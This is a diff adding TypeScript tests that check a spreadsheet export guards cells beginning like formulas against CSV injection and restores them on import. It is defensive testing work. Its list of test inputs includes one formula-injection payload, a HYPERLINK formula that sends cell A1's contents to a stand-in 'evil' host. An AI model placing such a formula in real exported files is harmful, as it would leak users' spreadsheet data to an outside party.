@@ -36,7 +36,9 @@ import { descriptionOf } from '../../console/src/service/description.js';
 import { moduleDescription } from '../../src/contract/modules/module-description.js';
 import { csvReader } from '../../src/domain/records/csv-rows.js';
 import { isBlank } from '../../src/domain/records/file-rows.js';
+import { cellValue } from '../../src/contract/records/import-cells.js';
 import { importColumns } from '../../src/contract/records/import-columns.js';
+import { guarded, unguarded } from '../../src/contract/values/formula-guard.js';
 import type { ImportError } from '../../src/contract/records/import-answer.js';
 import { department } from '../../src/contract/modules/department.js';
 import { user } from '../../src/contract/modules/user.js';
@@ -140,6 +142,61 @@ describe('a sheet', () => {
       ['A-1', '2026-11-23', '2026-11-23 00:00:00', '1234.50', '2026-11-23 09:30:00'],
       ['A-2', '', '2026-11-23 09:30:00', 'true', '2026-11-23'],
     ]);
+  });
+});
+
+describe('a text of a sheet that begins like a formula', () => {
+  const TEXTS = ['=HYPERLINK("http://evil/?"&A1)', '@SUM(1)', '+1', '-5', ' =1', 'a;=1', '\t=1', "'=1", "''=1", "'a"];
+  const header = ['合同编号', 'remarks', '金额', '排序', 'statusText', '状态'];
+  const written = (text: string) => csvTextOf(sheetRows([header, header.map(() => text)], form));
+
+  it('is guarded in each column of a download, and a number is not', async () => {
+    for (const text of TEXTS) {
+      const sent = written(text);
+      const corrections = { changes: [], skipped: new Set([csvRecords(sent)[1]!.line]) };
+      for (const file of [
+        correctedFile(sent, { leftOut: [] }, corrections),
+        leftOutFile(sent, { leftOut: [] }, corrections),
+      ])
+        for (const { value } of csvRecords((await file.text()).slice(1))[1]!.cells)
+          if (!/^[+-]\d$/.test(value)) expect(guarded(unguarded(value)), text).to.equal(value);
+    }
+  });
+
+  it('means the same after an import as it did before it was guarded', () => {
+    const columns = importColumns(importedModule(module));
+    for (const text of TEXTS) {
+      const cells = csvRecords(written(text))[1]!.cells.map(({ value }) => value);
+      for (const [at, name] of ['number', 'remarks'].entries())
+        expect(cellValue(columns[name]!, cells[at]!), `${name} ${text}`).to.equal(cellValue(columns[name]!, text));
+      for (const [at, name] of ['', '', 'amount', 'sort', '', 'status'].entries())
+        if (name !== '')
+          expect(cellFault(columns[name]!, cells[at]!), text).to.deep.equal(cellFault(columns[name]!, text));
+    }
+    expect(cellValue(columns['number']!, csvRecords(written('=1'))[1]!.cells[0]!.value)).to.equal('=1');
+    // a file that was exported as CSV and saved as a workbook has the mark in its cells
+    expect(csvRecords(written("'=1"))[1]!.cells[0]!.value).to.equal("'=1");
+  });
+
+  it('stays as it is where it is a password', () => {
+    const rows = [
+      ['用户名', '密码'],
+      ['li', '=Secret#2026'],
+    ];
+    expect(sheetRows(rows, userModule.form)[1]).to.deep.equal(['li', '=Secret#2026']);
+  });
+
+  it('is shown on the page without the mark', () => {
+    const [row] = fileRows(written('=1'), module, true).rows;
+    const cell = { field: importColumns(importedModule(module))['remarks']!, text: row!.cells[1]!.value };
+    expect([
+      row!.name,
+      shownCell(
+        cell,
+        ({ title }) => title,
+        () => undefined,
+      ),
+    ]).to.deep.equal(['=1', '=1']);
   });
 });
 
